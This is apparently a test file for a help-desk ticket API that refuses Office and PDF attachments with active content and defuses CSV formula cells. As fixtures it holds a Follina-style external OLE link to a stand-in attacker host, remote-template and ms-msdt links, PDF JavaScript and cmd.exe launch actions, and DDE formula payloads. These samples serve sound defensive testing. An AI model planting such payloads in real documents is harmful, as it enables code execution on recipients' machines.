import { deflateSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { neutralizeCsvFormulas } from "../src/attachments/csvFormulas.js";
import { type AttachmentInput, decodeAttachment } from "../src/attachments/decode.js";
import { docxMimeType, xlsxMimeType } from "../src/attachments/mimeTypes.js";
import { maxRelationshipPartBytes } from "../src/attachments/officeContent.js";
import { docExamples, partnerOf, tinyPngBase64 } from "./support/serviceDesk.js";
import { createTestHub, type TestHub } from "./support/testHub.js";
import { docxOf, relationshipsXml, relationshipType, xlsxOf } from "./support/zip.js";

const limits = { maxBytes: 10 * 1024 * 1024 };

function attachment(mimeType: string, bytes: Uint8Array, filename = "file"): AttachmentInput {
  return { filename, mimeType, size: bytes.byteLength, content: Buffer.from(bytes).toString("base64") };
}

function verdict(mimeType: string, bytes: Uint8Array): string {
  const result = decodeAttachment(attachment(mimeType, bytes), limits);
  if (result.ok) return "accepted";
  expect(result.field).toBe("content");
  return result.problem;
}

const documentRels = (relationships: Record<string, string>[]) => ({
  name: "word/_rels/document.xml.rels",
  content: relationshipsXml(relationships),
});

// The Follina document (CVE-2022-30190): an external OLE object whose target hands over to ms-msdt.
const follinaRelationship = {
  Type: relationshipType("oleObject"),
  Target: "mhtml:http://attacker.invalid/payload.html!x-usc:http://attacker.invalid/payload.html",
  TargetMode: "External",
};

describe("Word and Excel documents: active content is refused", () => {
  it.each([
    ["the Follina external OLE link", docxOf([documentRels([follinaRelationship])]), /external oleObject/],
    [
      "a remote template (template injection)",
      docxOf([
        {
          name: "word/_rels/settings.xml.rels",
          content: relationshipsXml([
            {
              Type: relationshipType("attachedTemplate"),
              Target: "https://attacker.invalid/t.dotm",
              TargetMode: "External",
            },
          ]),
        },
      ]),
      /external attachedTemplate \(word\/_rels\/settings\.xml\.rels\)/,
    ],
    [
      "a hyperlink to ms-msdt:",
      docxOf([
        documentRels([
          {
            Type: relationshipType("hyperlink"),
            Target: "ms-msdt:/id PCWDiagnostic",
            TargetMode: "External",
          },
        ]),
      ]),
      /external hyperlink/,
    ],
    [
      "an external target spelled with character references",
      docxOf([
        documentRels([{ ...follinaRelationship, Target: "&#109;html:x", TargetMode: "&#69;xternal" }]),
      ]),
      /external oleObject/,
    ],
    [
      "TargetMode after an attribute value holding '>'",
      docxOf([
        {
          name: "word/_rels/document.xml.rels",
          content: `<?xml version="1.0"?><Relationships xmlns="x"><Relationship Id="rId9" Note="a>b" Type="${relationshipType("oleObject")}" Target="http://attacker.invalid/o.bin" TargetMode="External"/></Relationships>`,
        },
      ]),
      /external oleObject/,
    ],
    [
      "a relationship part in UTF-16",
      docxOf([
        {
          name: "word/_rels/document.xml.rels",
          content: Buffer.concat([
            Buffer.from([0xff, 0xfe]),
            Buffer.from(relationshipsXml([follinaRelationship]), "utf16le"),
          ]),
        },
      ]),
      /external oleObject/,
    ],
    [
      "a relationship part declaring a DTD",
      docxOf([
        {
          name: "word/_rels/document.xml.rels",
          content: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY m "External">]><Relationships/>',
        },
      ]),
      /word\/_rels\/document\.xml\.rels cannot be inspected/,
    ],
    [
      "a relationship part too large to inspect",
      docxOf([
        {
          name: "word/_rels/document.xml.rels",
          content: `<?xml version="1.0"?><Relationships>${" ".repeat(maxRelationshipPartBytes)}</Relationships>`,
        },
      ]),
      /larger than \d+ bytes and cannot be inspected/,
    ],
    [
      "an embedded OLE object",
      docxOf([{ name: "word/embeddings/oleObject1.bin", content: "\xd0\xcf\x11\xe0" }]),
      /embedded object \(word\/embeddings\/oleobject1\.bin\)/,
    ],
    [
      "an OLE object outside an embeddings folder",
      docxOf([{ name: "word/media/oleObject7.bin", content: "x" }]),
      /embedded object/,
    ],
    ["ActiveX controls", docxOf([{ name: "word/activeX/activeX1.xml", content: "<ax/>" }]), /ActiveX/],
    [
      "an executable stored inside",
      docxOf([{ name: "word/media/invoice.exe", content: "MZ\x90\0", stored: true }]),
      /program or script \(word\/media\/invoice\.exe\)/,
    ],
    ["a script inside", docxOf([{ name: "customXml/run.VBS", content: "x" }]), /program or script/],
    [
      "macros",
      docxOf([{ name: "word/vbaProject.bin", content: "x" }]),
      /^contains macros, which are not accepted$/,
    ],
    [
      "a zip without a central directory",
      Buffer.from(
        "PK\x03\x04\x14\0\0\0\x08\0[Content_Types].xml\x9c\x01PK\x03\x04word/document.xml",
        "latin1",
      ),
      /not a complete zip file/,
    ],
  ])("%s", (_, bytes, problem) => {
    expect(verdict(docxMimeType, bytes)).toMatch(problem);
  });

  it("refuses a workbook with an embedded document", () => {
    const bytes = xlsxOf([{ name: "xl/embeddings/Microsoft_Word_Document.docx", content: "PK" }]);
    expect(verdict(xlsxMimeType, bytes)).toMatch(/embedded object \(xl\/embeddings\//);
  });

  it("refuses a zip whose local header names another file than its directory does", () => {
    const bytes = Buffer.from(docxOf([{ name: "word/harmless.xml", content: "<a/>" }]));
    const local = bytes.indexOf("word/harmless.xml");
    bytes.write("word/vbaProjectX.", local, "latin1");
    expect(verdict(docxMimeType, bytes)).toMatch(/does not match its directory record/);
  });

  it.each([
    ["a minimal document", docxMimeType, docxOf()],
    ["a minimal workbook", xlsxMimeType, xlsxOf()],
    [
      "web and e-mail hyperlinks, and an internal image",
      docxMimeType,
      docxOf([
        documentRels([
          {
            Type: relationshipType("hyperlink"),
            Target: "https://bank.example/promo?a=1&amp;b=2",
            TargetMode: "External",
          },
          { Type: relationshipType("hyperlink"), Target: "mailto:cs@bank.example", TargetMode: "External" },
          { Type: relationshipType("image"), Target: "media/image1.png" },
        ]),
        { name: "word/media/image1.png", content: Buffer.from(tinyPngBase64, "base64"), stored: true },
      ]),
    ],
    [
      "printer settings, which are binary but not objects",
      xlsxMimeType,
      xlsxOf([{ name: "xl/printerSettings/printerSettings1.bin", content: "\0\x01" }]),
    ],
  ])("accepts %s", (_, mimeType, bytes) => {
    expect(verdict(mimeType, bytes)).toBe("accepted");
  });
});

/** A PDF from its objects' text (or bytes), in order; readers find objects by scanning when the xref is absent. */
function pdfOf(...objects: (string | Buffer)[]): Uint8Array {
  const parts = objects.map((o) => (typeof o === "string" ? Buffer.from(o, "latin1") : o));
  return new Uint8Array(
    Buffer.concat([
      Buffer.from("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "latin1"),
      ...parts.flatMap((p) => [p, Buffer.from("\n")]),
      Buffer.from("trailer << /Root 1 0 R >>\n%%EOF\n"),
    ]),
  );
}

function streamObject(number: number, dictionary: string, data: Buffer): Buffer {
  return Buffer.concat([
    Buffer.from(`${number} 0 obj\n<< ${dictionary} /Length ${data.length} >>\nstream\n`, "latin1"),
    data,
    Buffer.from("\nendstream\nendobj"),
  ]);
}

function objectStream(
  number: number,
  objects: string,
  dictionary = "/Type /ObjStm /Filter /FlateDecode",
): Buffer {
  return streamObject(number, `${dictionary} /N 1 /First 5`, deflateSync(Buffer.from(`9 0 ${objects}`)));
}

const catalog = "1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj";
const pages = "2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj";

describe("PDF documents: script, actions and embedded files are refused", () => {
  it.each([
    [
      "JavaScript run on opening",
      pdfOf("1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj"),
      /^contains JavaScript \(\/JavaScript\), which is not accepted$/,
    ],
    [
      "JavaScript behind a hex-escaped name",
      pdfOf("1 0 obj << /Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (x) >> >> endobj"),
      /JavaScript/,
    ],
    [
      "a launch action",
      pdfOf(catalog, "3 0 obj << /S /Launch /F (cmd.exe) >> endobj"),
      /a launch action \(\/Launch\)/,
    ],
    [
      "automatic actions on a page",
      pdfOf(catalog, "3 0 obj << /Type /Page /AA << /O 4 0 R >> >> endobj"),
      /automatic actions/,
    ],
    [
      "embedded files",
      pdfOf("1 0 obj << /Type /Catalog /Names << /EmbeddedFiles 5 0 R >> >> endobj"),
      /embedded files/,
    ],
    [
      "JavaScript inside a compressed object stream",
      pdfOf(catalog, objectStream(7, "<< /S /JavaScript /JS (app.alert(1)) >>")),
      /JavaScript/,
    ],
    [
      "an object stream marked only by /First (its /Type indirect)",
      pdfOf(catalog, objectStream(7, "<< /S /Launch >>", "/Type 8 0 R /Filter /FlateDecode")),
      /launch action/,
    ],
    [
      "an object stream under another filter",
      pdfOf(
        catalog,
        streamObject(7, "/Type /ObjStm /N 1 /First 5 /Filter /ASCIIHexDecode", Buffer.from("3920302028")),
      ),
      /object stream\) that cannot be inspected/,
    ],
    [
      "an object stream with a predictor",
      pdfOf(
        catalog,
        objectStream(7, "<< >>", "/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 >>"),
      ),
      /cannot be inspected/,
    ],
    [
      "an object hidden after a stream's declared length",
      pdfOf(
        catalog,
        Buffer.from(
          "4 0 obj << /Length 4 >>\nstream\nq Q\n5 0 obj << /S /JavaScript >> endobj\nendstream\nendobj",
          "latin1",
        ),
      ),
      /JavaScript/,
    ],
  ])("%s", (_, bytes, problem) => {
    expect(verdict("application/pdf", bytes)).toMatch(problem);
  });

  it.each([
    ["a plain document", pdfOf(catalog, pages)],
    [
      "an opening view and web links",
      pdfOf(
        "1 0 obj << /Type /Catalog /OpenAction [3 0 R /Fit] >> endobj",
        "4 0 obj << /Type /Annot /Subtype /Link /A << /S /URI /URI (https://bank.example) >> >> endobj",
      ),
    ],
    [
      "the words /JavaScript in a string",
      pdfOf(catalog, "3 0 obj << /Title (about /JavaScript and /Launch) >> endobj"),
    ],
    ["a benign object stream", pdfOf(catalog, objectStream(7, "<< /Type /Font /Subtype /Type1 >>"))],
    [
      "stream data that happens to hold such bytes",
      pdfOf(
        catalog,
        streamObject(4, "/Filter /DCTDecode", Buffer.from("\xff\xd8 /JS /Launch \xff\xd9", "latin1")),
      ),
    ],
  ])("accepts %s", (_, bytes) => {
    expect(verdict("application/pdf", bytes)).toBe("accepted");
  });
});

describe("CSV downloads: formula cells are neutralised", () => {
  const neutralized = (text: string) => Buffer.from(neutralizeCsvFormulas(Buffer.from(text))).toString();

  it("prefixes a single quote to cells starting with = + - @ tab or CR, quoted or not, whatever the separator", () => {
    expect(neutralized('a,=1+2\n"=HYPERLINK(""http://x"")",@SUM(A1)\r\n')).toBe(
      'a,\'=1+2\n"\'=HYPERLINK(""http://x"")",\'@SUM(A1)\r\n',
    );
    expect(neutralized("+cmd|' /C calc'!A0;-2+3\tok")).toBe("'+cmd|' /C calc'!A0;'-2+3\tok");
    expect(neutralized('x,"\t=1","\r=2"')).toBe('x,"\'\t=1","\'\r=2"');
    expect(neutralized("=first")).toBe("'=first");
  });

  it("leaves numbers, text and the rest of the file alone", () => {
    const plain = 'tanggal;nominal;catatan\n2024-12-19;-150000;"a, b"\n2024-12-20;+62.5;ok\n';
    expect(neutralized(plain)).toBe(plain);
    expect(neutralized("")).toBe("");
  });
});

describe("over HTTP", () => {
  let hub: TestHub;
  let partner: Awaited<ReturnType<typeof partnerOf>>;

  beforeAll(async () => {
    hub = await createTestHub({ RATE_LIMIT_PER_MINUTE: "0" });
    partner = await partnerOf(hub, "active-content-bank");
  });
  afterAll(async () => {
    await hub.close();
  });

  const ticketWith = (attachments: AttachmentInput[]) => ({
    ...docExamples.ticket,
    integration: { ...docExamples.ticket.integration, requestId: undefined },
    attachments,
  });

  it("a ticket carrying a Follina document and a scripted PDF is refused, naming each attachment", async () => {
    const res = await partner.post(
      "/api/omnichannel/tickets",
      ticketWith([
        attachment("image/png", Buffer.from(tinyPngBase64, "base64"), "ok.png"),
        attachment(docxMimeType, docxOf([documentRels([follinaRelationship])]), "invoice.docx"),
        attachment("application/pdf", pdfOf("1 0 obj << /OpenAction << /S /JavaScript /JS (x) >> >> endobj")),
      ]),
    );
    expect(res.status).toBe(400);
    expect(res.body).toEqual({
      success: false,
      message: "Validation failed",
      errors: {
        "attachments.1.content":
          "links to an external oleObject (word/_rels/document.xml.rels), which is not accepted",
        "attachments.2.content": "contains JavaScript (/JavaScript), which is not accepted",
      },
    });
  });

  it("a CSV is stored as sent and downloaded with its formula cells neutralised", async () => {
    const csv = Buffer.from("nama,nominal\n=cmd|' /C calc'!A0,-150000\n");
    const created = await partner.post(
      "/api/omnichannel/tickets",
      ticketWith([attachment("text/csv", csv, "mutasi.csv")]),
    );
    expect(created.status).toBe(201);
    const ticket = await partner.get(`/api/omnichannel/tickets/${created.body.ticketNumber}`);
    const [file] = ticket.body.attachments as { id: string }[];
    const download = await partner.raw(
      `/api/omnichannel/tickets/${created.body.ticketNumber}/attachments/${file?.id}`,
    );
    expect(download.status).toBe(200);
    const body = await download.text();
    expect(body).toBe("nama,nominal\n'=cmd|' /C calc'!A0,-150000\n");
    expect(download.headers.get("content-length")).toBe(String(Buffer.byteLength(body)));
  });
});
